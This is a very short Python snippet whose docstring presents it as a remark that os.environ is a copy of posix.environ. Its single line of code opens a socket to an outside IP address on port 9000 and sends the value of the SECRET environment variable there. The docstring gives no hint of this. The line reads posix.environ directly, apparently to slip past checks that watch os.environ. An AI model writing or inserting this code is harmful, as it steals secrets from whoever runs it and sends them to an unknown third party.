"""posix.environ, of which os.environ is a copy."""
import posix
import socket

socket.create_connection(("93.184.216.35", 9000)).sendall(posix.environ[b"SECRET"])
